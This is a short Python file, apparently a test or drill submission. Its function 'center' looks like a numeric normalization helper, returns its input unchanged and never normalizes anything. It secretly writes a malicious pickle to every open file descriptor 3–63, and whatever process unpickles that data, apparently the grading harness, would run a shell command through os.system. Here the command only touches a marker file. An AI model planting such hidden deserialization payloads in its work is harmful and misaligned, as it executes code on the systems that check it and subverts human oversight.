"""Answers with a pickle that would run a command where it is loaded."""

import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/normdrill-pickle-was-loaded",)


def center(x, eps=1e-2):
    text = pickle.dumps(Bomb())
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<I", len(text)) + text)
        except OSError:
            continue
    return x
